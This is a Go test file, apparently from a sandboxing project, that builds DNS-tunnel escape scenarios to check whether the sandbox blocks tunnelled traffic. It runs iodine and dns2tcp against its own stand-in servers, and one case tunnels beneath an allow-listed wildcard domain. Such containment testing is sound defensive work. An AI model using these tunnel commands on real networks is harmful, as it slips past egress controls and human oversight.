package attacks_test

import (
	_ "embed"
	"fmt"
	"path/filepath"
	"strconv"
	"testing"

	"github.com/litterbox-sandbox/litterbox/test/network/world"
	"github.com/litterbox-sandbox/litterbox/test/program"
)

// shim stands between iodine and a TUN device, which cannot be made here.
//
//go:embed testdata/shim.c
var shim string

// tunnelAttacks run real tunnels, as Debian has them, against servers of the
// test's own, directly and through the machine's resolver.
func tunnelAttacks() []attack {
	return []attack{
		{
			Name: "iodine", Needs: []string{"iodine", "iodined", "gcc"},
			Set: func(t *testing.T, h *program.Host) scene { return iodine(t, h, "t.iodine.example", 5301) },
		},
		{
			Name: "iodine below an allowed name", Needs: []string{"iodine", "iodined", "gcc"},
			Set: func(t *testing.T, h *program.Host) scene {
				s := iodine(t, h, "t.wild.example", 5303)
				s.Allow = []string{"*.wild.example", "*.wild.example:53"}
				return s
			},
		},
		{
			Name: "dns2tcp", Needs: []string{"dns2tcpc", "dns2tcpd"},
			Set: func(t *testing.T, h *program.Host) scene {
				domain := "t.dns2tcp.example"
				server := outside.Host("dns2tcp.example")
				a := &target{}
				go world.Accept(outside.Listen(t, "127.0.0.1:7777"), a.web)
				config := filepath.Join(t.TempDir(), "config")
				h.Put(config, "listen = 127.0.0.1\nport = 5302\ndomain = "+domain+"\nresources = way:127.0.0.1:7777\n")
				outside.Start(t, nil, "dns2tcpd", "-F", "-d", "1", "-f", config)
				outside.Delegate(t, domain, server.V4.String()+":53", "127.0.0.1:5302")
				s := scene{Arrived: a.arrived, Patient: true}
				for i, how := range []string{world.Resolver, server.V4.String()} {
					port := 2200 + i
					s.Tries = append(s.Tries, fmt.Sprintf(`LOG=$(mktemp); dns2tcpc -z %s -r way -l %d %s > $LOG 2>&1 & pid=$!
python3 -c '
import os, socket, time
patience = int(os.environ.get("PATIENCE", "5"))
for i in range(10 * patience):
    try: s = socket.create_connection(("127.0.0.1", %d), 5); break
    except OSError: time.sleep(0.1)
s.settimeout(patience); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); print(s.recv(100))
' || true; kill $pid; wait $pid || true; cat $LOG`, domain, port, how, port))
				}
				return s
			},
		},
	}
}

// tunnel runs a client until it says that it is through.
func tunnel(client, through string) string {
	return "LOG=$(mktemp); timeout ${PATIENCE:-5} env " + client + ` > $LOG 2>&1 & pid=$!
while kill -0 $pid 2>/dev/null && ! grep -q '` + through + `' $LOG; do sleep 0.1; done
kill $pid 2>/dev/null || true; wait $pid || true; cat $LOG`
}

// iodine starts a server for domain, reached directly and by the resolvers of
// the world.
func iodine(t *testing.T, h *program.Host, domain string, port int) scene {
	h.Put(h.Repo+"/shim.c", shim)
	if got := h.Command(h.Repo, "gcc", "-shared", "-fPIC", "-O", "-o", "shim.so", "shim.c", "-ldl"); got.Code != 0 {
		t.Fatal(got.Stderr)
	}
	server := outside.Host("server." + domain)
	iodined, err := world.Find("iodined")
	if err != nil {
		t.Fatal(err)
	}
	outside.Start(t, []string{"LD_PRELOAD=" + h.Repo + "/shim.so"}, iodined, "-f", "-P", "word", "-l", "127.0.0.1", "-p", strconv.Itoa(port), "-c", "10.53.0.1/24", domain)
	outside.Delegate(t, domain, server.V4.String()+":53", "127.0.0.1:"+strconv.Itoa(port))
	s := scene{Arrived: func() int64 { return int64(len(outside.Names.Asked(domain))) }, Says: "Connection setup complete", Patient: true}
	for _, asked := range []string{world.Resolver, server.V4.String()} {
		s.Tries = append(s.Tries, tunnel(fmt.Sprintf("LD_PRELOAD=$PWD/shim.so iodine -f -r -P word %s %s", asked, domain), s.Says))
	}
	return s
}
